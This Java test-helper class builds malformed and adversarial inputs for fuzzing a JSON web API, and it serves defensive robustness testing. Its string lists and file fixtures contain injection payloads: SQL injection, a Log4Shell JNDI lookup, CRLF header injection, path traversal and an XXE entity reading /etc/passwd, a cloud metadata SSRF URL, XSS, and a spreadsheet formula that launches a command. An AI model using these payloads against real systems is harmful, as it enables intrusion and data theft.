package org.tamga.testing;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.math.BigDecimal;
import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.stream.Stream;
import java.util.zip.GZIPOutputStream;

import com.fasterxml.jackson.core.json.JsonWriteFeature;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectWriter;
import com.fasterxml.jackson.databind.json.JsonMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;

/** What nobody should send, and somebody will. */
final class Hostile {

    private static final JsonNodeFactory NODES = JsonNodeFactory.withExactBigDecimals(true);
    /** Half a surrogate pair can only be written as an escape. */
    private static final ObjectWriter ASCII = JsonMapper.builder().nodeFactory(NODES).enable(JsonWriteFeature.ESCAPE_NON_ASCII)
            .build().writer();
    private static final int DEEP = 100_000;

    /** Texts, each of which is legal in an address once it is encoded. */
    static final List<String> TEXTS = List.of("", " ", "a\u0000b", "\u202Etxt.exe\u202C",
            "\u0627\u0644\u0639\u0631\u0628\u064A\u0629 \u05E2\u05D1\u05E8\u05D9\u05EA",
            "a\u200B\u200D\uFEFFb", "Z\u0351\u036B\u0343\u036A\u0302", "\uD83C\uDDF0\uD83C\uDDF7", "\uD800",
            "\r\nX-Injected: 1",
            "'; drop table coverage_version; --", "' or '1'='1", "%", "_%\\", "$1", "{\"$ne\": null}", "{a,b}", "(((((",
            "=HYPERLINK(\"http://a.example\",\"x\")", "@SUM(1)", "+1", "-1", "${jndi:ldap://a.example/x}", "{{7*7}}",
            "<script>alert(1)</script>", "../../../../etc/passwd", "file:///etc/passwd",
            "http://169.254.169.254/latest/meta-data/",
            "x".repeat(1000), "NaN", "Infinity", "1e400", "-0", "0x10", "99999999999999999999", "-9223372036854775808", "null",
            "true",
            "2025-02-30", "0000-00-00", "+999999999-12-31", "-0001-01-01", "9999-12-31", "10000-01-01", "2016-12-31T23:59:60Z",
            "2025-13-01T25:61:61Z", "2025-01-01T00:00:00+99:00", "2025-W60", "../..", "ZZ", "kr", "KOR",
            "00000000-0000-0000-0000-000000000000", "not-a-uuid", "1-1-1-1-1", "KR-KR", "KR,KR,KR,,", "a:b:c", "id,id,\u0000");

    private Hostile() {
    }

    /** A body, changed in one place. */
    record Body(String what, byte[] bytes) {}

    /** A body in which one member is of another type, gone, unknown, huge, or something that means more than it says. */
    static Body changed(ObjectNode sound, Random random) {
        var body = sound.deepCopy();
        var places = new ArrayList<Place>();
        collect("", body, places);
        var value = value(random);
        if (places.isEmpty() || random.nextInt(8) == 0) {
            body.set(TEXTS.get(random.nextInt(TEXTS.size())), value);
            return new Body("with one more member: " + brief(body.toString()), bytes(body, random));
        }
        var place = places.get(random.nextInt(places.size()));
        if (random.nextInt(8) == 0) {
            place.remove();
            return new Body("without " + place.pointer(), bytes(body, random));
        }
        place.set(value);
        return new Body(place.pointer() + " is " + brief(value.toString()), bytes(body, random));
    }

    /** Bytes that are no JSON object, or hardly. */
    static List<Body> broken(ObjectNode sound) {
        var whole = bytes(sound, new Random(0));
        var text = new String(whole, StandardCharsets.UTF_8);
        var bodies = new LinkedHashMap<String, byte[]>();
        bodies.put("nothing", new byte[0]);
        bodies.put("null", ascii("null"));
        bodies.put("half of it", text.substring(0, whole.length / 2).getBytes(StandardCharsets.UTF_8));
        bodies.put("bytes that are no UTF-8",
                new byte[]{'{', '"', (byte) 0xc3, '"', ':', '"', (byte) 0xff, (byte) 0xfe, '"', '}'});
        bodies.put("UTF-16", text.getBytes(StandardCharsets.UTF_16));
        bodies.put("a deep array", ascii("[".repeat(DEEP)));
        bodies.put("a deep member", ascii("{\"a\":".repeat(DEEP) + "1" + "}".repeat(DEEP)));
        bodies.put("a bare NUL", ascii("{\"note\": \"a\u0000b\"}"));
        bodies.put("a number of a million digits", ascii("{\"version\": " + "9".repeat(1_000_000) + "}"));
        return listed(bodies);
    }

    /** Files that are of no format, or of one that they are not. */
    static List<Body> files() {
        var files = new LinkedHashMap<String, byte[]>();
        files.put("nothing", new byte[0]);
        files.put("NUL bytes", new byte[4096]);
        files.put("no UTF-8", "id,name\n1,caf\u00e9 \u00ff\u00fe\n".getBytes(StandardCharsets.ISO_8859_1));
        files.put("a mark and then UTF-16", "id,name\r\n1,x\r\n".getBytes(StandardCharsets.UTF_16));
        files.put("deep JSON", ascii("[".repeat(DEEP)));
        files.put("JSON that ends too early", ascii("{\"items\": [{\"id\": \"1\"}, {\"name\": \"x"));
        files.put("a document of other members", ascii("{\"data\": [null, 1, \"x\", [], {\"a\": {\"b\": [1e400]}}]}"));
        files.put("an array of anything", ascii("[null, 1e999999, \"x\", [], {}, {\"id\": {\"id\": null}}]\n"));
        files.put("lines of anything", ascii("null\n1\n\"x\"\n[]\n{}\n{\"id\": []}\n\u0000\n"));
        files.put("a table of formulas", ascii("=1+1,@SUM(A1),\"+cmd|' /C calc'!A0\"\n=1+1,-1,\"\u0000\"\n"));
        files.put("a quote that does not close", ascii("a,b\n\"1,2\n3,4\n"));
        files.put("as many commas as there are", ascii(",".repeat(100_000) + "\n" + ",".repeat(300_000) + "\n"));
        files.put("a zip archive", ascii("PK\u0003\u0004" + "\u0000".repeat(100)));
        files.put("markup", ascii("<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>"));
        return listed(files);
    }

    /** One that says that it is packed, and is packed in part. */
    static byte[] halfPacked() {
        var packed = new ByteArrayOutputStream();
        try (var out = new GZIPOutputStream(packed)) {
            out.write(new byte[100_000]);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return Arrays.copyOf(packed.toByteArray(), packed.size() / 2);
    }

    /** Headers that mean something here, and mean nothing like this. */
    static Map<String, List<String>> headers() {
        return Map.of("If-Match", List.of("\"", "W/\"x\"", "*", "\"99999999999999999999\"", "\"-1\"", "1, 2", "\"1\".\"2\""),
                "If-None-Match", List.of("\"", "*", "\"1\", \"2\"", "W/"),
                "Idempotency-Key", List.of(" ", "'; --", "x".repeat(5000)),
                "Accept", List.of("image/png;q=abc", ";;;", "*/*;q=2", "text", "application/json;q=0", "a/b/c", ","),
                "Content-Type", List.of("application/json; charset=utf-16", "application/json; charset=klingon", "text", ";",
                        "application/json;;", "multipart/form-data"),
                "Content-Encoding", List.of("gzip", "br", "gzip, gzip"),
                "Prefer", List.of("respond-async, wait=-1", "=;", ""),
                "traceparent", List.of("00-0-0-0", "ff-ffffffffffffffffffffffffffffffff-ffffffffffffffff-ff", "x"),
                "X-Correlation-Id", List.of("x".repeat(5000), "<b>", "${jndi:ldap://a.example}"),
                "Authorization",
                List.of("Bearer", "Bearer ", "Basic dGVzdDp0ZXN0", "bearer a.b.c", "Bearer " + "x".repeat(5000)));
    }

    private static JsonNode value(Random random) {
        return switch (random.nextInt(12)) {
            case 0 -> NODES.nullNode();
            case 1 -> NODES.booleanNode(random.nextBoolean());
            case 2 -> number(random);
            case 3 -> NODES.objectNode();
            case 4 -> NODES.arrayNode().addNull();
            case 5 -> nested(random.nextBoolean(), 400);
            case 6 -> NODES.textNode("x".repeat(100_000));
            case 7 -> many(random);
            default -> NODES.textNode(TEXTS.get(random.nextInt(TEXTS.size())));
        };
    }

    private static JsonNode number(Random random) {
        return switch (random.nextInt(7)) {
            case 0 -> NODES.numberNode(-1);
            case 1 -> NODES.numberNode(Long.MIN_VALUE);
            case 2 -> NODES.numberNode(BigInteger.TEN.pow(40));
            case 3 -> NODES.numberNode(new BigDecimal("1e999999"));
            case 4 -> NODES.numberNode(new BigDecimal("-1e-400"));
            case 5 -> NODES.numberNode(new BigDecimal("0.1"));
            default -> NODES.numberNode(Integer.MAX_VALUE + 1L);
        };
    }

    private static JsonNode nested(boolean asArray, int depth) {
        JsonNode inner = NODES.textNode("x");
        for (int i = 0; i < depth; i++) {
            inner = asArray ? NODES.arrayNode().add(inner) : NODES.objectNode().set("a", inner);
        }
        return inner;
    }

    private static JsonNode many(Random random) {
        var array = NODES.arrayNode();
        for (int i = 0; i < 2000; i++) {
            array.add(TEXTS.get(random.nextInt(TEXTS.size())));
        }
        return array;
    }

    /** A member of an object or an element of an array. */
    private record Place(String pointer, JsonNode parent, String name, int index) {

        void set(JsonNode value) {
            if (parent instanceof ObjectNode object) {
                object.set(name, value);
            } else {
                ((ArrayNode) parent).set(index, value);
            }
        }

        void remove() {
            if (parent instanceof ObjectNode object) {
                object.remove(name);
            } else {
                ((ArrayNode) parent).remove(index);
            }
        }
    }

    private static void collect(String pointer, JsonNode node, List<Place> places) {
        if (node.isObject()) {
            node.fields().forEachRemaining(member -> {
                var there = pointer + "/" + member.getKey();
                places.add(new Place(there, node, member.getKey(), 0));
                collect(there, member.getValue(), places);
            });
        } else {
            for (int i = 0; i < node.size(); i++) {
                places.add(new Place(pointer + "/" + i, node, null, i));
                collect(pointer + "/" + i, node.get(i), places);
            }
        }
    }

    static byte[] bytes(JsonNode body, Random random) {
        try {
            return random.nextBoolean() ? ASCII.writeValueAsBytes(body) : body.toString().getBytes(StandardCharsets.UTF_8);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    static String brief(String text) {
        return text.length() <= 80 ? text : text.substring(0, 80) + "…";
    }

    private static byte[] ascii(String text) {
        return text.getBytes(StandardCharsets.US_ASCII);
    }

    private static List<Body> listed(Map<String, byte[]> bodies) {
        return bodies.entrySet().stream().map(body -> new Body(body.getKey(), body.getValue())).toList();
    }

    static Stream<String> texts(Random random, int count) {
        return random.ints(count, 0, TEXTS.size()).mapToObj(TEXTS::get);
    }
}
